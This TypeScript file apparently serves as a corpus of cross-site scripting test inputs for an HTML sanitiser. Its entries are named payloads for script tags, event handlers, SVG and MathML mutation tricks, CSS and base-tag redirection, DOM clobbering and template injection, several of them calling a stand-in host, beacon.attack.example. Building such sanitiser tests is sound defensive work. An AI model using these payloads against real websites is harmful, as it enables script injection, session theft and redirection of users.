/** HTML, SVG and MathML in the forms that slip through filters which look for other forms. */

import { attacks, beacon, payload } from './attack.ts'

export const htmlAttacks = attacks({
  'a script': `<script>${payload}</script>`,
  'a script from elsewhere': `<script src="${beacon}/x.js"></script>`,
  'a script after a closed title': `</title></textarea></style></script><script>${payload}</script>`,
  'a script out of an attribute': `"><script>${payload}</script>`,
  'a handler out of an attribute': `" autofocus onfocus="${payload}" x="`,
  'an image with a handler': `<img src=x onerror="${payload}">`,
  'a picture that is drawn': `<svg onload="${payload}"><script>${payload}</script></svg>`,
  'a picture that moves its link': `<svg><a><animate attributeName=href values="javascript:${payload}"/><text y=20>click</text></a></svg>`,
  'a picture that fetches': `<svg><use href="${beacon}/x.svg#a"/><image href="${beacon}/x.png"/></svg>`,
  'formulas that mutate': `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${payload}>">`,
  'a style that calls': `<style>@import url(${beacon}/x.css); body{background:url(${beacon}/bg.png)}</style>`,
  'a style within': `<b style="position:fixed;inset:0;background:url(${beacon}/bg.png)">covered</b>`,
  'a base for all links': `<base href="${beacon}/">`,
  'a refresh that leads away': `<meta http-equiv="refresh" content="0;url=${beacon}/">`,
  'a page that is prefetched': `<link rel="prefetch" href="${beacon}/p"><link rel="dns-prefetch" href="//beacon.attack.example">`,
  'an object': `<object data="${beacon}/o"></object><embed src="${beacon}/e"><applet code=x>`,
  'a video that calls': `<video src="${beacon}/v" poster="${beacon}/p.png" autoplay onloadstart="${payload}"></video>`,
  'entities that become HTML':
    '&lt;script&gt;window.__owned=1&lt;/script&gt;&#60;img src=x onerror=window.__owned=1&#62;',
  'a name for a global': '<form id=document><img id=createElement name=body></form><a id=desktop href=javascript:1>',
  'a template for a framework': '{{constructor.constructor("window.__owned=1")()}} ${window.__owned=1} <%= 1 %> #{1}',
  'a comment that ends late': `<!--><img src=x onerror="${payload}">-->`,
  CDATA: `<![CDATA[<script>${payload}</script>]]><?xml-stylesheet href="${beacon}/x.xsl"?>`,
})
